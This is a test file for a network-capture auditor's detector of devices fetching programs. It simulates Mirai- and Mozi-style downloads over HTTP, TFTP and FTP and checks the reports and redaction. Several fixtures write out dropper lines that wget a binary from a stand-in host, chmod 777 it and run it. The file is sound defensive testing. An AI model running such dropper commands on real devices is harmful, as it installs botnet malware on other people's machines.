import { execFileSync, spawnSync } from 'node:child_process'
import { createHash } from 'node:crypto'
import { mkdtempSync, readdirSync, readFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, expect, it, vi } from 'vitest'
import { audit } from '../../audit/audit.ts'
import { hasControls } from '../../decode/protocols/dialogue.ts'
import { capturesIn, corpus } from '../../testing/corpus.ts'
import { type Dialogue, dialoguesCapture, type Ends, type Turn } from '../../testing/dialogue-capture.ts'
import { elf } from '../../testing/programs.ts'
import { seeded } from '../../testing/seeded.ts'
import { tsharkAvailable } from '../../testing/tshark.ts'
import { Fetches } from './fetches.ts'

const sha = (b: Uint8Array) => createHash('sha256').update(b).digest('hex')
const bytes = (text: string) => Uint8Array.from(text, (c) => c.charCodeAt(0))

const THING = { mac: [2, 0, 0, 0, 0, 1], ip: [192, 168, 1, 10] }
const ROUTER = [2, 0, 0, 0, 0, 2]
const FAR: Ends = { client: THING.ip, server: [203, 0, 113, 9], macs: { client: THING.mac, server: ROUTER } }
const NEAR: Ends = { client: THING.ip, server: [192, 168, 1, 20], macs: { client: THING.mac, server: [2, 0, 0, 0, 0, 3] } }
/** Somebody of the Internet calls the thing. */
const CALLED: Ends = { client: [203, 0, 113, 9], server: THING.ip, macs: { client: ROUTER, server: THING.mac } }

/** In packets as a network carries them. */
function* cut(b: Uint8Array, size = 1400): Generator<Uint8Array> {
  for (let at = 0; at < b.length; at += size) yield b.subarray(at, at + size)
}
const says = (side: Turn[0], b: Uint8Array, size?: number): Turn[] => [...cut(b, size)].map((part) => [side, part] as const)

const get = (path: string, host: string, agent = 'Wget') =>
  `GET ${path} HTTP/1.1\r\nHost: ${host}\r\nUser-Agent: ${agent}\r\n\r\n`
const ok = (fields: string) => `HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n${fields}\r\n`
const download = (file: Uint8Array, path = '/bins/mirai.mips', host = '203.0.113.9', port = 80, agent?: string): Dialogue => ({
  serverPort: port,
  turns: [['client', get(path, host, agent)], ['server', ok(`Content-Length: ${file.length}\r\n`)], ...says('server', file)],
})

interface Step {
  device: string
  stage: string
  severity: string
  says: string
  what: string
  role: string
  count: number
  detail: Record<string, string | number>
  indicators: { type: string; value: string; role: string }[]
  frames: readonly number[]
}

async function steps(capture: string): Promise<Step[]> {
  const { threats = [] } = await audit([capture], { threads: 0 })
  return threats.flatMap(({ device, steps: list }) =>
    list
      .filter(({ detector }) => detector === 'fetched')
      .map((step) => ({
        ...step,
        device,
        frames: step.evidence.flatMap((e) => ('frames' in e ? e.frames : [])),
      })),
  )
}
const told = async (dialogues: readonly Dialogue[], ends = FAR) => steps(dialoguesCapture(dialogues, ends))

const FILE = elf({ size: 40_000 })

describe('what a reader may not learn', () => {
  it('is not told: passwords and tokens in addresses', async () => {
    const script = '#!/bin/sh\nwget http://admin:hunter2@203.0.113.9/x.mips?token=SECRET; chmod 777 x.mips; ./x.mips\n'
    const ask = (target: string) => get(target, 'eve:hunter2@203.0.113.9')
    const answer = `${ok(`Content-Length: ${script.length}\r\n`)}${script}`
    const turns = (target: string): Turn[] => [
      ['client', ask(target)],
      ['server', answer],
    ]
    const found = await told([
      { serverPort: 8081, turns: turns('/i.sh?token=SECRET') },
      { serverPort: 8081, turns: turns('http://bob:hunter2@203.0.113.9/i.sh?token=SECRET') },
    ])
    expect(found.length).toBeGreaterThan(0)
    expect(JSON.stringify(found)).toContain('203.0.113.9/x.mips')
    expect(JSON.stringify(found)).not.toMatch(/hunter2|SECRET/)
  })

  it('a page that speaks of commands is no script', async () => {
    const page = '<html><p>Use tftp 192.168.1.9 -g -r a.bin, then sh restore or wget http://192.168.1.9/a.sh; sh a.sh</p></html>'
    const turns: Turn[] = [
      ['client', get('/help', '192.168.1.20:8081')],
      ['server', `${ok(`Content-Length: ${page.length}\r\n`)}${page}`],
    ]
    expect(await told([{ serverPort: 8081, turns }], NEAR)).toEqual([])
  })
})

describe('a program in pieces', () => {
  /** Three bytes a packet: nobody sees a request or a program in one of them. */
  const pieces = (file: Uint8Array, host?: string): Dialogue => {
    const [asked, answered] = download(file, '/bins/mirai.mips', host).turns
    return {
      serverPort: 80,
      turns: [
        ...says('client', bytes(asked![1] as string), 3),
        ...says('server', bytes(answered![1] as string), 3),
        ...says('server', file, 3),
      ],
    }
  }

  it('is told once all of its beginning is there, without a hash, and once', async () => {
    const small = elf({ size: 3000 })
    const [step, ...more] = await told([pieces(small)])
    expect(more).toEqual([])
    expect(step).toMatchObject({ stage: 'fetched', severity: 'high', role: 'target', count: 1 })
    expect(step!.says).toContain('http://203.0.113.9/bins/mirai.mips (in pieces, so without a hash)')
    // in whole packets it is the sensor's, which has the hash
    expect(await told([download(small)])).toMatchObject([{ count: 1, detail: { sha256: sha(small) } }])
  })

  it('is weighed as in whole packets', async () => {
    const host = 'downloads.example.com'
    const weights = async (dialogue: Dialogue) =>
      (await told([dialogue])).map(({ detail }) => [detail['weight'], detail['marks']])
    const file = elf({ size: 3000 })
    expect(await weights(pieces(file, host))).toEqual(await weights(download(file, '/bins/mirai.mips', host)))
    // too little speaks against it
    const plain = bytes(get('/app.bin', host, 'Mozilla/5.0'))
    const turns = [...says('client', plain, 3), ...pieces(file).turns.filter(([side]) => side === 'server')]
    expect(await told([{ serverPort: 80, turns }])).toEqual([])
  })
})

describe('a program that a device fetches', () => {
  it("is told with its address, its name and its hash, and the request's frame", async () => {
    const [step, ...more] = await told([download(FILE)])
    expect(more).toEqual([])
    expect(step).toMatchObject({ stage: 'fetched', severity: 'high', what: 'program', role: 'target', count: 1 })
    expect(step!.says).toContain('Fetched a program for MIPS (ELF) in clear by HTTP: http://203.0.113.9/bins/mirai.mips')
    expect(step!.says).toContain(`(40,000 bytes, SHA-256 ${sha(FILE)})`)
    expect(step!.frames).toEqual([4, 6])
    expect(step!.indicators).toEqual(
      expect.arrayContaining([
        { type: 'ip', value: '203.0.113.9', role: 'loader' },
        { type: 'sha256', value: sha(FILE), role: 'program' },
        { type: 'url', value: 'http://203.0.113.9/bins/mirai.mips', role: 'program' },
        { type: 'file', value: 'mirai.mips', role: 'program' },
      ]),
    )
  })

  it('is found however HTTP carries it', async () => {
    const chunks = (b: Uint8Array) =>
      [...cut(b, 1000)].flatMap((part) => [bytes(`${part.length.toString(16)}\r\n`), part, bytes('\r\n')])
    const chunked = Uint8Array.from(Buffer.concat([...chunks(FILE), bytes('0\r\n\r\n')]))
    const request: Turn = ['client', get('/mips', '203.0.113.9')]
    const head = ok(`Content-Length: ${FILE.length}\r\n`)
    const ways: Record<string, Turn[]> = {
      'head and body in one packet': [request, ...says('server', Uint8Array.from(Buffer.concat([bytes(head), FILE])))],
      'a head of many packets': [request, ...says('server', bytes(head), 7), ...says('server', FILE)],
      'the empty line cut in two': [
        request,
        ['server', head.slice(0, -1)],
        ['server', Uint8Array.from(Buffer.concat([bytes('\n'), FILE.subarray(0, 900)]))],
        ...says('server', FILE.subarray(900)),
      ],
      chunks: [request, ['server', ok('Transfer-Encoding: chunked\r\n')], ...says('server', chunked)],
      'chunks in the packet of their head': [
        request,
        ...says('server', Uint8Array.from(Buffer.concat([bytes(ok('Transfer-Encoding: chunked\r\n')), chunked]))),
      ],
      'the second request of a connection': [
        ['client', get('/index.html', '203.0.113.9')],
        ['server', 'HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello'],
        request,
        ['server', head],
        ...says('server', FILE),
      ],
      'behind a redirection without a body': [
        ['client', get('/x', '203.0.113.9')],
        ['server', 'HTTP/1.1 302 Found\r\nContent-Length: 0\r\nLocation: /mips\r\n\r\n'],
        request,
        ['server', head],
        ...says('server', FILE),
      ],
    }
    for (const [way, turns] of Object.entries(ways)) {
      const list = await told([{ serverPort: 80, turns }])
      expect([way, list.map(({ detail }) => [detail['url'], detail['sha256']])]).toEqual([
        way,
        [['http://203.0.113.9/mips', sha(FILE)]],
      ])
    }
  })

  it('is found in TFTP, with the name that was asked for', async () => {
    const blocks = (file: Uint8Array, size: number) =>
      [...cut(file, size)].flatMap((part, i): Turn[] => [
        ['server', Uint8Array.from([0, 3, (i + 1) >> 8, (i + 1) & 255, ...part])],
        ['client', Uint8Array.from([0, 4, (i + 1) >> 8, (i + 1) & 255])],
      ])
    const asks = (options = ''): Dialogue => ({
      transport: 'udp',
      serverPort: 69,
      clientPort: 50_000,
      turns: [['client', `\0\u0001bot.sh4\0octet\0${options}`]],
    })
    const answer = (turns: Turn[]): Dialogue => ({ transport: 'udp', serverPort: 33_333, clientPort: 50_000, turns })
    const file = elf({ machine: 42, size: 3001 })
    for (const dialogues of [
      [asks(), answer(blocks(file, 512))],
      [
        asks('blksize\u00001428\0'),
        answer([['server', '\0\u0006blksize\u00001428\0'], ['client', '\0\u0004\0\0'], ...blocks(file, 1428)]),
      ],
      // a file that is shorter than a block that was agreed on
      [asks('blksize\u00008192\0'), answer([['server', '\0\u0006blksize\u00008192\0'], ...blocks(file, 8192)])],
      // the answer comes from the port that was asked
      [{ ...asks(), turns: [...asks().turns, ...blocks(file, 512)] }],
    ]) {
      const list = await told(dialogues)
      expect(list).toMatchObject([
        {
          stage: 'fetched',
          severity: 'high',
          detail: { by: 'tftp', machine: 'SuperH', name: 'bot.sh4', url: 'tftp://203.0.113.9/bot.sh4', sha256: sha(file) },
        },
      ])
    }
  })

  it('is found in the data of FTP, and in bare TCP', async () => {
    const control: Dialogue = {
      serverPort: 21,
      turns: [
        ['server', '220 hello\r\n'],
        ['client', 'USER anonymous\r\n'],
        ['client', 'PASS x\r\n'],
        ['client', 'RETR arm7.bin\r\n'],
      ],
    }
    const file = elf({ machine: 40, little: true, size: 5000 })
    const data: Dialogue = { serverPort: 40_123, clientPort: 40_001, turns: says('server', file) }
    expect(await told([control, data])).toMatchObject([
      { severity: 'high', detail: { by: 'ftp', name: 'arm7.bin', url: 'ftp://203.0.113.9/arm7.bin', machine: 'ARM' } },
    ])
    expect(await told([data])).toMatchObject([{ severity: 'high', detail: { by: 'tcp', url: '203.0.113.9:40123' } }])
  })

  it('is a script that fetches programs from a server without a name', async () => {
    const line = (machine: string) => `wget http://203.0.113.9/${machine}; chmod 777 ${machine}; ./${machine}\n`
    const script = bytes(`#!/bin/sh\ncd /tmp\n${['mips', 'mpsl', 'arm', 'sh4'].map(line).join('')}${'# x\n'.repeat(800)}`)
    const [step] = await told([download(script, '/bins.sh')])
    expect(step).toMatchObject({ severity: 'high', what: 'script', detail: { fetches: 4, sha256: sha(script) } })
    expect(step!.indicators).toContainEqual({ type: 'url', value: 'http://203.0.113.9/sh4', role: 'named in the script' })
    expect(step!.says).toContain('Fetched a shell script')
  })

  it('is one of several from one server: one step, the gravest told, all hashes given', async () => {
    const files = [elf({ machine: 8 }), elf({ machine: 40, little: true }), elf({ machine: 20 })]
    const list = await told(
      files.map((file, i) => ({ ...download(file, `/a/${['x', 'bot.arm', 'y'][i]}`), clientPort: 41_000 + i })),
    )
    expect(list).toHaveLength(1)
    expect(list[0]).toMatchObject({ count: 3, detail: { name: 'bot.arm', machine: 'ARM' } })
    expect(list[0]!.says).toContain('the gravest of 3 files')
    const hashes = list[0]!.indicators.filter(({ type }) => type === 'sha256').map(({ value }) => value)
    expect(hashes.toSorted()).toEqual(files.map(sha).toSorted())
  })

  it('has no hash where the capture lacks a part of it, and that is said', async () => {
    const dialogue = download(FILE)
    const [step] = await told([{ ...dialogue, turns: dialogue.turns.slice(0, -2) }])
    expect(step).toMatchObject({ severity: 'high' })
    expect(step!.detail).not.toHaveProperty('sha256')
    expect(step!.says).toContain('not whole in the capture, so without a hash')
    expect(step!.indicators.map(({ type }) => type)).not.toContain('sha256')
  })

  it('is told of without what asked for it, but not as of a server without a name', async () => {
    const dialogue = download(elf({ size: 3000, sections: false }))
    const [step] = await told([{ ...dialogue, turns: dialogue.turns.slice(1) }])
    expect(step).toMatchObject({ severity: 'low', stage: 'fetched' })
    expect(step!.says).not.toContain('no name')
  })
})

describe('a program that a device gives to others', () => {
  it('is the spread of a worm', async () => {
    const [step, ...more] = await told([download(FILE, '/Mozi.m', '198.51.100.5:41234', 41_234)], CALLED)
    expect(more).toEqual([])
    expect(step).toMatchObject({ device: 'mac-020000000001', stage: 'scanning', severity: 'high', role: 'source' })
    expect(step!.says).toContain('Gave a program for MIPS (ELF) to 203.0.113.9')
    expect(step!.indicators).toContainEqual({ type: 'ip', value: '203.0.113.9', role: 'got it' })
  })

  it('is told of both where both are here', async () => {
    const list = await told([download(FILE, '/bins/x.mips', '192.168.1.20:8081', 8081)], NEAR)
    expect(list.map(({ device, stage, role }) => [device, stage, role])).toEqual(
      expect.arrayContaining([
        ['mac-020000000001', 'fetched', 'target'],
        ['mac-020000000003', 'scanning', 'source'],
      ]),
    )
  })
})

describe('what makers and people do', () => {
  const benign: Record<string, [Dialogue, Ends?]> = {
    "an update from its maker's server": [download(FILE, '/fw/camera_1.2.bin', 'update.example.com', 80, 'CameraUpdate/1.0')],
    'the same by Wget': [download(FILE, '/fw/plugin', 'update.example.com')],
    'a library from an address without a name': [
      download(elf({ type: 3, dynamic: true }), '/lib/libx.so', '203.0.113.9', 80, 'App'),
    ],
    'firmware by TFTP at home': [
      { transport: 'udp', serverPort: 50_100, turns: says('server', Uint8Array.from([0, 3, 0, 1, ...FILE.subarray(0, 512)])) },
      NEAR,
    ],
    "a maker's script": [
      download(
        bytes('#!/bin/sh\nwget http://update.example.com/a -O /tmp/a\nchmod +x /tmp/a && /tmp/a\n'),
        '/i.sh',
        'update.example.com',
      ),
    ],
    'a script that fetches nothing': [download(bytes('#!/bin/sh\nset -e\n./configure\n'), '/x.sh')],
    'a page about ELF': [download(bytes('<html>\u007fELF</html>'), '/elf.html')],
    'an archive': [download(Uint8Array.from([0x1f, 0x8b, 8, ...FILE]), '/x.tgz')],
    'a program within a page': [download(Uint8Array.from([10, ...FILE]), '/x')],
    'what a server says that has no file': [
      {
        serverPort: 80,
        turns: [
          ['client', get('/mips', '203.0.113.9')],
          ['server', 'HTTP/1.1 404 Not Found\r\nContent-Length: 4\r\n\r\nnone'],
        ],
      },
    ],
  }
  for (const [what, [dialogue, ends]] of Object.entries(benign))
    it(`is not told: ${what}`, async () => {
      expect(await told([dialogue], ends)).toEqual([])
    })

  it("is at most a medium doubt: a developer's program from a server at home", async () => {
    const list = await told([download(FILE, '/tool', '192.168.1.20:8000', 8000, 'curl/8')], NEAR)
    expect(list.map(({ severity }) => severity)).toEqual(['medium', 'medium'])
  })
})

describe('hostile traffic', () => {
  it('is followed in bounds: many programs at once, of which the last are whole', async () => {
    const many = 60
    const files = Array.from({ length: many }, (_, i) => elf({ size: 4000 + i }))
    // all begin before the first ends
    const open = files.map((file, i): Dialogue => {
      const { turns, ...rest } = download(file, `/f${i}`)
      return { ...rest, clientPort: 42_000 + i, turns: turns.slice(0, 3) }
    })
    const whole = download(elf({ size: 9000 }), '/whole')
    const [step] = await told([...open, { ...whole, clientPort: 45_000 }])
    expect(step!.count).toBe(many + 1)
    expect(step!.indicators.length).toBeLessThanOrEqual(64)
  })

  it('never throws: changed downloads', async () => {
    const below = seeded(11)
    const base = download(elf({ size: 2500 })).turns.map(
      ([side, said]) => [side, typeof said === 'string' ? bytes(said) : said] as const,
    )
    const dialogues = Array.from({ length: 400 }, (_, i): Dialogue => {
      const turns = base.map(([side, said]): Turn => {
        const copy = said.slice(0, below(4) === 0 ? below(said.length) : said.length)
        for (let n = below(6); n > 0 && copy.length > 0; n--) copy[below(Math.min(copy.length, 200))] = below(256)
        return [side, copy]
      })
      return { serverPort: 80, clientPort: 20_000 + i, turns: below(3) === 0 ? turns.toReversed() : turns }
    })
    for (const step of await told(dialogues)) expect(hasControls(step.says)).toBe(false)
  })
})

describe.skipIf(!tsharkAvailable())('held to tshark', () => {
  it('has the hashes of the files that tshark takes out', async () => {
    const file = elf({ size: 70_000 })
    const blocks = [...cut(file, 512)].flatMap((part, i): Turn[] => [
      ['server', Uint8Array.from([0, 3, (i + 1) >> 8, (i + 1) & 255, ...part])],
      ['client', Uint8Array.from([0, 4, (i + 1) >> 8, (i + 1) & 255])],
    ])
    for (const [protocol, dialogues] of [
      ['http', [download(file, '/a.mips')]],
      [
        'tftp',
        [{ transport: 'udp', serverPort: 69, clientPort: 50_000, turns: [['client', '\0\u0001a.mips\0octet\0'], ...blocks] }],
      ],
    ] as [string, Dialogue[]][]) {
      const capture = dialoguesCapture(dialogues, FAR)
      const out = mkdtempSync(join(tmpdir(), 'assay-objects-'))
      execFileSync('tshark', ['-q', '-r', capture, '--export-objects', `${protocol},${out}`], { stdio: 'ignore' })
      const theirs = readdirSync(out).map((name) =>
        spawnSync('sha256sum', [join(out, name)], { encoding: 'utf8' }).stdout.slice(0, 64),
      )
      const ours = (await steps(capture)).map(({ detail }) => detail['sha256'])
      expect([protocol, ours]).toEqual([protocol, theirs])
      expect(theirs).toEqual([sha(readFileSync(join(out, readdirSync(out)[0]!)))])
    }
  })
})

const BENIGN = ['iot-sentinel', 'moniotr', 'ja4', 'zeek', 'ndpi']
/** D-Link's things fetch a program for MIPS as it is, by plain HTTP from a server with a name, when they are set up. */
const AGENT = corpus('iot-sentinel/D-LinkSiren/Setup-A-1-STA.pcap')
describe.skipIf(corpus('iot-sentinel') === undefined)('benign captures', () => {
  it.skipIf(AGENT === undefined || !tsharkAvailable())("hold a maker's program: followed whole, and not told", async () => {
    const ended = vi.spyOn(Fetches.prototype, 'ended')
    // else it is not followed, as nothing speaks against it
    const light = vi.spyOn(Fetches.prototype, 'isLight').mockReturnValue(false)
    expect(await steps(AGENT!)).toEqual([])
    const ours = ended.mock.calls.map(([, following]) => [following.contents.size, following.sha256])
    ended.mockRestore()
    light.mockRestore()
    const out = mkdtempSync(join(tmpdir(), 'assay-objects-'))
    execFileSync('tshark', ['-q', '-r', AGENT!, '--export-objects', `http,${out}`], { stdio: 'ignore' })
    const theirs = readdirSync(out)
      .map((name) => readFileSync(join(out, name)))
      .filter((file) => file.subarray(1, 4).toString() === 'ELF')
      .map((file) => [file.length, sha(file)])
    expect(ours).toEqual(theirs)
    expect(theirs).toHaveLength(1)
  })

  it('hold nothing that is told, and nobody who takes commands', { timeout: 120_000 }, async () => {
    const captures = capturesIn(BENIGN, 1 << 20)
    expect(captures.length).toBeGreaterThan(300)
    for (const capture of captures) {
      const { threats = [] } = await audit([capture], { threads: 0 }).catch(() => ({ threats: [] }))
      const ours = threats.flatMap((t) => t.steps.filter(({ detector }) => detector === 'fetched' || detector === 'commanded'))
      expect([capture, ours]).toEqual([capture, []])
    }
  })
})
